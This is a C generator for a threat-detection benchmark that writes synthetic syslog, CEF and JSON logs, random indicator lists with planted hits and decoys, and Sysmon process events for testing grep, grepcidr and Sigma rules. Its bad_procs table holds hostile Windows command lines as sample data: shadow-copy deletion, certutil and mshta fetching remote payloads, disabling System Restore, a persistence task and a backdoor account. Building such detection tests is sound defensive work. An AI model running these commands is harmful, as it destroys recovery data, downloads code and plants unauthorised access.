/* The detect benchmark's data, deterministic (fixed seed): a mixed log (RFC 5424, RFC 3164, CEF,
 * JSON lines, each with a unique sequence number), an indicator list of mixed types, the ground
 * truth of the hits planted in the log (and of decoys that only substring search takes for hits),
 * the exact-string and the address subsets of the list for grep/rg and grepcidr, and Windows
 * process-creation events (Sysmon, as JSON) for the Sigma run.
 *
 * gen DIR LINES IOCS PROCESS_EVENTS */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static uint64_t rng = 0x9E3779B97F4A7C15ULL;

static uint64_t next(void)
{
  uint64_t z = (rng += 0x9E3779B97F4A7C15ULL);
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
  return z ^ (z >> 31);
}

static unsigned below(unsigned n)
{
  return (unsigned)(next() % n);
}

/* ---- indicators --------------------------------------------------------------------------- */

enum kind { K_IP, K_CIDR, K_IP6, K_DOMAIN, K_URL, K_MD5, K_SHA1, K_SHA256, K_EMAIL, K__N };
static const char *const kind_name[] = {"ipv4", "cidr", "ipv6",   "domain", "url",
                                        "md5",  "sha1", "sha256", "email"};
/* shares of the list, per thousand */
static const unsigned share[K__N] = {400, 50, 20, 300, 50, 40, 20, 80, 40};

struct ioc {
  char v[136];
  unsigned char kind;
  unsigned plen; /* CIDR */
  uint32_t addr; /* IPv4 and CIDR */
};

static struct ioc *iocs;
static size_t niocs;

/* Indicator addresses have a first octet in 11..169 other than 100 and 127, never that of a
 * benign address (10, 172, 192). */
static uint32_t ioc_addr(void)
{
  unsigned a = 11 + below(159);
  if (a == 100 || a == 127)
    a++;
  return (uint32_t)a << 24 | (uint32_t)(next() & 0xFFFFFF);
}

static void fmt_ip(char *out, size_t n, uint32_t a)
{
  snprintf(out, n, "%u.%u.%u.%u", a >> 24, (a >> 16) & 255, (a >> 8) & 255, a & 255);
}

static const char *const tlds[] = {"com", "net", "org", "info", "biz", "ru", "cn", "top",
                                   "xyz", "io",  "co",  "me",   "tk",  "cc", "pw"};
#define N_TLDS (sizeof(tlds) / sizeof(tlds[0]))
static const char consonants[] = "bcdfghjklmnprstvwz", vowels[] = "aeiou";

static void word(char *out, size_t len)
{
  for (size_t i = 0; i < len; i++)
    out[i] = i % 2 ? vowels[below(5)] : consonants[below(18)];
  out[len] = '\0';
}

static void domain(char *out, size_t n)
{
  char a[16], b[16];
  word(a, 5 + below(7));
  if (below(3) == 0) {
    word(b, 3 + below(5));
    snprintf(out, n, "%s-%s.%s", a, b, tlds[below(N_TLDS)]);
  } else {
    snprintf(out, n, "%s%u.%s", a, below(100), tlds[below(N_TLDS)]);
  }
}

static void hex(char *out, size_t digits)
{
  static const char h[] = "0123456789abcdef";
  for (size_t i = 0; i < digits; i++)
    out[i] = h[below(16)];
  out[digits] = '\0';
}

static void make_ioc(struct ioc *c, enum kind k)
{
  c->kind = (unsigned char)k;
  switch (k) {
  case K_IP:
    c->addr = ioc_addr();
    fmt_ip(c->v, sizeof(c->v), c->addr);
    break;
  case K_CIDR:
    c->plen = 16 + below(15); /* /16 .. /30 */
    c->addr = ioc_addr() & (~0u << (32 - c->plen));
    fmt_ip(c->v, sizeof(c->v), c->addr);
    snprintf(c->v + strlen(c->v), sizeof(c->v) - strlen(c->v), "/%u", c->plen);
    break;
  case K_IP6:
    snprintf(c->v, sizeof(c->v), "2001:db8:%x:%x::%x", below(0xffff), below(0xffff),
             1 + below(0xfffe));
    break;
  case K_DOMAIN:
    domain(c->v, sizeof(c->v));
    break;
  case K_URL: {
    char d[64], p[16];
    domain(d, sizeof(d));
    word(p, 4 + below(6));
    snprintf(c->v, sizeof(c->v), "http%s://%s/%s/%s.php?id=%u", below(2) ? "s" : "", d, p, p,
             below(100000));
    break;
  }
  case K_MD5:
    hex(c->v, 32);
    break;
  case K_SHA1:
    hex(c->v, 40);
    break;
  case K_SHA256:
    hex(c->v, 64);
    break;
  case K_EMAIL: {
    char u[16], d[64];
    word(u, 4 + below(6));
    domain(d, sizeof(d));
    snprintf(c->v, sizeof(c->v), "%s.%u@%s", u, below(1000), d);
    break;
  }
  default:
    break;
  }
}

/* A set of strings (indicator values), to keep decoys from being indicators by chance. */
static char **set;
static size_t set_mask;

static uint64_t str_hash(const char *s)
{
  uint64_t h = 1469598103934665603ULL;
  for (; *s; s++)
    h = (h ^ (unsigned char)*s) * 1099511628211ULL;
  return h;
}

static void set_add(char *v)
{
  size_t i = str_hash(v) & set_mask;
  while (set[i] && strcmp(set[i], v))
    i = (i + 1) & set_mask;
  set[i] = v;
}

static int set_has(const char *v)
{
  for (size_t i = str_hash(v) & set_mask; set[i]; i = (i + 1) & set_mask)
    if (!strcmp(set[i], v))
      return 1;
  return 0;
}

/* ---- the log ------------------------------------------------------------------------------ */

static void benign_ip(char *out, size_t n)
{
  switch (below(3)) {
  case 0:
    snprintf(out, n, "10.%u.%u.%u", below(256), below(256), 1 + below(254));
    break;
  case 1:
    snprintf(out, n, "172.%u.%u.%u", 16 + below(16), below(256), 1 + below(254));
    break;
  default:
    snprintf(out, n, "192.168.%u.%u", below(256), 1 + below(254));
  }
}

/* Half internal names, half public names under well-known domains (which no indicator is). */
static const char *const public_zones[] = {"microsoft.com",  "windowsupdate.com", "google.com",
                                           "googleapis.com", "amazonaws.com",     "akamaiedge.net",
                                           "office.net",     "apple.com",         "github.com",
                                           "cloudflare.net", "gstatic.com",       "azureedge.net"};

static void benign_domain(char *out, size_t n)
{
  static const char *const zones[] = {"corp.internal", "intra", "svc.cluster.local", "lan"};
  char w[16];
  word(w, 4 + below(6));
  if (below(2))
    snprintf(out, n, "%s%u.%s", w, below(50), zones[below(4)]);
  else
    snprintf(out, n, "%s%u.%s", w, below(50), public_zones[below(12)]);
}

static void upper(char *s, size_t n)
{
  for (size_t i = 0; i < n && s[i]; i++)
    if (s[i] >= 'a' && s[i] <= 'z')
      s[i] = (char)(s[i] - 32);
}

/* A true hit for indicator c: the value, or a form that means the same to a matcher that knows the
 * type (an address inside a range, a subdomain, another spelling of the URL, upper case). */
static void hit_form(const struct ioc *c, char *out, size_t n)
{
  switch (c->kind) {
  case K_CIDR: {
    uint32_t span = c->plen >= 32 ? 1 : (1u << (32 - c->plen));
    fmt_ip(out, n, c->addr + (span > 2 ? 1 + below(span - 2) : 0));
    return;
  }
  case K_DOMAIN: {
    static const char *const subs[] = {"", "www.", "mail.", "cdn.a1."};
    unsigned k = below(4);
    snprintf(out, n, "%s%s", subs[k], c->v);
    if (below(4) == 0)
      upper(out, n);
    return;
  }
  case K_URL: {
    const char *host = strstr(c->v, "://") + 3;
    const char *path = strchr(host, '/');
    int https = c->v[4] == 's';
    char h[96];
    snprintf(h, sizeof(h), "%.*s", (int)(path - host), host);
    switch (below(3)) {
    case 0:
      snprintf(out, n, "%s", c->v);
      break;
    case 1:
      upper(h, sizeof(h));
      snprintf(out, n, "%s://%s%s", https ? "HTTPS" : "HTTP", h, path);
      break;
    default:
      snprintf(out, n, "%s://%s:%s%s", https ? "https" : "http", h, https ? "443" : "80", path);
    }
    return;
  }
  case K_MD5:
  case K_SHA1:
  case K_SHA256:
  case K_IP6:
  case K_EMAIL:
    snprintf(out, n, "%s", c->v);
    if (below(3) == 0)
      upper(out, n);
    return;
  default:
    snprintf(out, n, "%s", c->v);
  }
}

/* A decoy: text that contains an indicator's value but is not that indicator. 0 when none fits. */
static int decoy_form(const struct ioc *c, char *out, size_t n)
{
  switch (c->kind) {
  case K_DOMAIN:
    if (below(2))
      snprintf(out, n, "my%s", c->v); /* a longer name, not a subdomain */
    else
      snprintf(out, n, "%s.mirror.lan", c->v); /* a name under another zone */
    return !set_has(out) && !set_has(out + 2);
  case K_MD5:
  case K_SHA256:
    snprintf(out, n, "%s%x", c->v, below(16)); /* a longer hex run */
    return 1;
  case K_URL:
    snprintf(out, n, "%s%u", c->v, below(10)); /* another URL that starts the same */
    return !set_has(out);
  default:
    return 0;
  }
}

enum slot { S_IP, S_DOMAIN, S_URL, S_HASH, S_EMAIL };

static enum slot slot_of(unsigned kind)
{
  switch (kind) {
  case K_IP:
  case K_CIDR:
  case K_IP6:
    return S_IP;
  case K_DOMAIN:
    return S_DOMAIN;
  case K_URL:
    return S_URL;
  case K_EMAIL:
    return S_EMAIL;
  default:
    return S_HASH;
  }
}

/* One log line; the planted value (if any) goes in the slot of its type, which is then always
 * present. Otherwise each line has one or two addresses and, now and then, a domain name, a URL,
 * a digest or an e-mail address, as web, auth, firewall and endpoint logs do. */
static void line(FILE *out, unsigned long seq, const char *planted, enum slot slot)
{
  char ip1[48], ip2[48], dom[96] = "", url[160] = "", hash[80] = "", email[96] = "", user[16];
  benign_ip(ip1, sizeof(ip1));
  benign_ip(ip2, sizeof(ip2));
  word(user, 5 + below(4));
  unsigned r = below(100);
  if (r < 50 || slot == S_DOMAIN)
    benign_domain(dom, sizeof(dom));
  if (r < 20 || slot == S_URL)
    snprintf(url, sizeof(url), "https://%s/app/%u/index.html", dom[0] ? dom : "portal.intra",
             below(1000));
  if (below(100) < 15 || slot == S_HASH)
    hex(hash, 64);
  if (below(100) < 10 || slot == S_EMAIL)
    snprintf(email, sizeof(email), "%s@%s", user, below(2) ? "mail.corp.internal" : "outlook.com");
  if (planted) {
    char *dst = slot == S_IP       ? ip2
                : slot == S_DOMAIN ? dom
                : slot == S_URL    ? url
                : slot == S_HASH   ? hash
                                   : email;
    snprintf(dst, 160, "%s", planted);
  }
  unsigned sec = (unsigned)(seq % 86400);
  char extra[600];
  size_t x = 0;
  switch (seq % 4) {
  case 0: /* a web server */
    x += (size_t)snprintf(extra + x, sizeof(extra) - x, "%s%s", dom[0] ? " host=" : "", dom);
    x += (size_t)snprintf(extra + x, sizeof(extra) - x, "%s%s", url[0] ? " referer=" : "", url);
    x += (size_t)snprintf(extra + x, sizeof(extra) - x, "%s%s", hash[0] ? " etag=" : "", hash);
    snprintf(extra + x, sizeof(extra) - x, "%s%s", email[0] ? " user=" : "", email);
    fprintf(out,
            "<134>1 2026-03-01T%02u:%02u:%02u.%03uZ web%u.corp.internal nginx %u - "
            "[meta seq=\"%lu\"] %s - - \"GET /app/%u HTTP/1.1\" 200 %u%s\n",
            sec / 3600, sec / 60 % 60, sec % 60, below(1000), below(50), below(65000), seq, ip2,
            below(1000), below(90000), extra);
    break;
  case 1: /* auth */
    x += (size_t)snprintf(extra + x, sizeof(extra) - x, "%s%s", dom[0] ? " rhost=" : "", dom);
    x += (size_t)snprintf(extra + x, sizeof(extra) - x, "%s%s", url[0] ? " via " : "", url);
    x +=
        (size_t)snprintf(extra + x, sizeof(extra) - x, "%s%s", hash[0] ? " key SHA256:" : "", hash);
    snprintf(extra + x, sizeof(extra) - x, "%s%s", email[0] ? " for " : "", email);
    fprintf(out,
            "<38>Mar  1 %02u:%02u:%02u fw%u sshd[%u]: Accepted publickey for %s from %s "
            "port %u ssh2 seq=%lu%s\n",
            sec / 3600, sec / 60 % 60, sec % 60, below(20), below(65000), user, ip2,
            1024 + below(60000), seq, extra);
    break;
  case 2: /* a firewall or proxy */
    x += (size_t)snprintf(extra + x, sizeof(extra) - x, "%s%s", dom[0] ? " dhost=" : "", dom);
    x += (size_t)snprintf(extra + x, sizeof(extra) - x, "%s%s", url[0] ? " request=" : "", url);
    x += (size_t)snprintf(extra + x, sizeof(extra) - x, "%s%s", hash[0] ? " fileHash=" : "", hash);
    snprintf(extra + x, sizeof(extra) - x, "%s%s", email[0] ? " suser=" : "", email);
    fprintf(out,
            "CEF:0|Vendor|Gateway|2.1|%u|Traffic allowed|3|src=%s dst=%s spt=%u dpt=443 "
            "cs1Label=seq cs1=%lu%s\n",
            100 + below(50), ip1, ip2, 1024 + below(60000), seq, extra);
    break;
  default: /* an endpoint agent */
    x += (size_t)snprintf(extra + x, sizeof(extra) - x, "%s%s%s",
                          dom[0] ? ",\"dns\":{\"question\":\"" : "", dom, dom[0] ? "\"}" : "");
    x += (size_t)snprintf(extra + x, sizeof(extra) - x, "%s%s%s", url[0] ? ",\"url\":\"" : "", url,
                          url[0] ? "\"" : "");
    x += (size_t)snprintf(extra + x, sizeof(extra) - x, "%s%s%s", hash[0] ? ",\"sha256\":\"" : "",
                          hash, hash[0] ? "\"" : "");
    snprintf(extra + x, sizeof(extra) - x, "%s%s%s", email[0] ? ",\"from\":\"" : "", email,
             email[0] ? "\"" : "");
    fprintf(out,
            "{\"@timestamp\":\"2026-03-01T%02u:%02u:%02uZ\",\"seq\":%lu,\"src\":\"%s\","
            "\"dst\":\"%s\",\"port\":%u%s}\n",
            sec / 3600, sec / 60 % 60, sec % 60, seq, ip1, ip2, 1 + below(65000), extra);
  }
}

/* ---- process-creation events -------------------------------------------------------------- */

static const char *const benign_procs[][3] = {
    {"C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule",
     "C:\\Windows\\System32\\services.exe"},
    {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer "
     "--lang=en-US --renderer-client-id=%u",
     "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"},
    {"C:\\Windows\\System32\\conhost.exe",
     "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
     "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
     "C:\\Windows\\System32\\userinit.exe"},
    {"C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {%u}",
     "C:\\Windows\\System32\\svchost.exe"},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
     "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle",
     "C:\\Windows\\explorer.exe"},
    {"C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe /c type C:\\logs\\app%u.log",
     "C:\\Windows\\explorer.exe"},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoProfile -File C:\\scripts\\inventory%u.ps1",
     "C:\\Windows\\System32\\svchost.exe"},
    {"C:\\Windows\\System32\\RuntimeBroker.exe",
     "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", "C:\\Windows\\System32\\svchost.exe"},
    {"C:\\Program Files\\Git\\cmd\\git.exe", "git status --porcelain %u",
     "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\SearchProtocolHost.exe",
     "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe%u",
     "C:\\Windows\\System32\\SearchIndexer.exe"},
    {"C:\\Program Files\\Microsoft VS Code\\Code.exe",
     "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" --type=utility --utility-sub-type=%u",
     "C:\\Program Files\\Microsoft VS Code\\Code.exe"},
};

static const char *const bad_procs[][3] = {
    {"C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
     "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\certutil.exe",
     "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe",
     "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\reg.exe",
     "reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore\" /v DisableSR /t "
     "REG_DWORD /d 1 /f",
     "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\schtasks.exe",
     "schtasks /create /sc minute /mo 1 /tn Updater /tr C:\\Users\\Public\\upd.exe",
     "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\mshta.exe", "mshta.exe http://198.51.100.4/page.hta",
     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"},
    {"C:\\Windows\\System32\\net.exe", "net user backdoor P@ssw0rd! /add",
     "C:\\Windows\\System32\\cmd.exe"},
};

/* s with '"' and '\\' escaped for a JSON string, into out. */
static const char *json_esc(const char *s, char *out, size_t n)
{
  size_t o = 0;
  for (; *s && o + 2 < n; s++) {
    if (*s == '"' || *s == '\\')
      out[o++] = '\\';
    out[o++] = *s;
  }
  out[o] = '\0';
  return out;
}

static void process_event(FILE *out, unsigned long i)
{
  const char *const *p = below(100) == 0 ? bad_procs[below(6)] : benign_procs[below(12)];
  char raw[512], cmd[1024], img[512], name[128], parent[512], hashes[256], h1[48], h2[40], h3[72],
      h4[40];
  snprintf(raw, sizeof(raw), p[1], below(100000));
  json_esc(raw, cmd, sizeof(cmd));
  json_esc(p[0], img, sizeof(img));
  json_esc(strrchr(p[0], '\\') + 1, name, sizeof(name));
  json_esc(p[2], parent, sizeof(parent));
  hex(h1, 40);
  hex(h2, 32);
  hex(h3, 64);
  hex(h4, 32);
  upper(h1, sizeof(h1));
  upper(h2, sizeof(h2));
  upper(h3, sizeof(h3));
  upper(h4, sizeof(h4));
  snprintf(hashes, sizeof(hashes), "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s", h1, h2, h3, h4);
  unsigned sec = (unsigned)(i % 86400);
  fprintf(
      out,
      "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-"
      "Sysmon\","
      "\"Guid\":\"5770385F-C22A-43E0-BF4C-06F5698FFBD9\"}},\"EventID\":1,\"Version\":5,\"Level\":4,"
      "\"Task\":1,\"Opcode\":0,\"Keywords\":\"0x8000000000000000\",\"TimeCreated\":{\"#"
      "attributes\":"
      "{\"SystemTime\":\"2026-03-01T%02u:%02u:%02u.%06uZ\"}},\"EventRecordID\":%lu,\"Channel\":"
      "\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"ws%03u.corp.internal\",\"Security\":"
      "{\"#attributes\":{\"UserID\":\"S-1-5-18\"}}},\"EventData\":{\"RuleName\":\"-\",\"UtcTime\":"
      "\"2026-03-01 %02u:%02u:%02u.%03u\",\"ProcessGuid\":\"5AA13A44-D441-68FC-%04X-00000000%04X\","
      "\"ProcessId\":%u,\"Image\":\"%s\",\"FileVersion\":\"10.0.20348.1 (WinBuild.160101.0800)\","
      "\"Description\":\"%s\",\"Product\":\"Microsoft Windows Operating System\",\"Company\":"
      "\"Microsoft Corporation\",\"OriginalFileName\":\"%s\",\"CommandLine\":\"%s\","
      "\"CurrentDirectory\":\"C:\\\\Windows\\\\system32\\\\\",\"User\":\"CORP\\\\user%u\","
      "\"LogonGuid\":\"5AA13A44-568F-68FB-E39A-520000000000\",\"LogonId\":\"0x529ae3\","
      "\"TerminalSessionId\":2,\"IntegrityLevel\":\"Medium\",\"Hashes\":\"%s\","
      "\"ParentProcessGuid\":\"5AA13A44-0FEC-68FC-281E-000000004002\",\"ParentProcessId\":%u,"
      "\"ParentImage\":\"%s\",\"ParentCommandLine\":\"%s\",\"ParentUser\":\"CORP\\\\user%u\"}}}\n",
      sec / 3600, sec / 60 % 60, sec % 60, below(1000000), 1000000 + i, below(500), sec / 3600,
      sec / 60 % 60, sec % 60, below(1000), below(0xffff), below(0xffff), 100 + below(65000), img,
      name, name, cmd, below(300), hashes, 100 + below(65000), parent, parent, below(300));
}

/* ---- main --------------------------------------------------------------------------------- */

static FILE *open_out(const char *dir, const char *name)
{
  char path[4096];
  snprintf(path, sizeof(path), "%s/%s", dir, name);
  FILE *f = fopen(path, "w");
  if (!f) {
    perror(path);
    exit(1);
  }
  static char bufs[8][1 << 16];
  static int nb;
  setvbuf(f, bufs[nb++ % 8], _IOFBF, sizeof(bufs[0]));
  return f;
}

int main(int argc, char **argv)
{
  if (argc != 5) {
    fprintf(stderr, "usage: gen DIR LINES IOCS PROCESS_EVENTS\n");
    return 2;
  }
  const char *dir = argv[1];
  unsigned long lines = strtoul(argv[2], NULL, 10), want = strtoul(argv[3], NULL, 10),
                procs = strtoul(argv[4], NULL, 10);
  iocs = calloc(want + 1, sizeof(*iocs));
  size_t cap = 1024;
  while (cap < want * 3)
    cap *= 2;
  set = calloc(cap, sizeof(*set));
  set_mask = cap - 1;
  if (!iocs || !set)
    return 1;
  FILE *all = open_out(dir, "iocs.txt"), *exact = open_out(dir, "iocs-exact.txt"),
       *cidr = open_out(dir, "iocs-cidr.txt");
  fprintf(all, "# detect benchmark indicators (generated, deterministic)\n");
  for (unsigned k = 0; k < K__N; k++) {
    size_t n = k == K__N - 1 ? want - niocs : want * share[k] / 1000;
    for (size_t i = 0; i < n && niocs < want; i++) {
      struct ioc *c = &iocs[niocs];
      make_ioc(c, (enum kind)k);
      if (set_has(c->v))
        continue; /* values are unique */
      set_add(c->v);
      niocs++;
      fprintf(all, "%s\n", c->v);
      if (k == K_IP || k == K_CIDR || k == K_IP6)
        fprintf(cidr, "%s\n", c->v);
      if (k != K_CIDR)
        fprintf(exact, "%s\n", c->v);
    }
  }
  fclose(all);
  fclose(exact);
  fclose(cidr);
  for (size_t i = 0; i < sizeof(public_zones) / sizeof(public_zones[0]); i++)
    if (set_has(public_zones[i]) || set_has("outlook.com")) {
      fprintf(stderr, "gen: a benign zone is an indicator\n");
      return 1;
    }
  FILE *log = open_out(dir, "logs.txt"), *truth = open_out(dir, "truth.tsv");
  for (unsigned long i = 1; i <= lines; i++) {
    unsigned r = below(1000);
    char form[256];
    if (r < 10) { /* 1 %: a planted hit */
      const struct ioc *c = &iocs[below((unsigned)niocs)];
      hit_form(c, form, sizeof(form));
      line(log, i, form, slot_of(c->kind));
      fprintf(truth, "%lu\t%s\t%s\thit\n", i, kind_name[c->kind], c->v);
    } else if (r < 15) { /* 0.5 %: a decoy */
      const struct ioc *c = &iocs[below((unsigned)niocs)];
      if (decoy_form(c, form, sizeof(form))) {
        line(log, i, form, slot_of(c->kind));
        fprintf(truth, "%lu\t%s\t%s\tdecoy\n", i, kind_name[c->kind], c->v);
      } else {
        line(log, i, NULL, S_IP);
      }
    } else {
      line(log, i, NULL, S_IP);
    }
  }
  fclose(log);
  fclose(truth);
  FILE *pc = open_out(dir, "process.json");
  for (unsigned long i = 0; i < procs; i++)
    process_event(pc, i);
  fclose(pc);
  return 0;
}
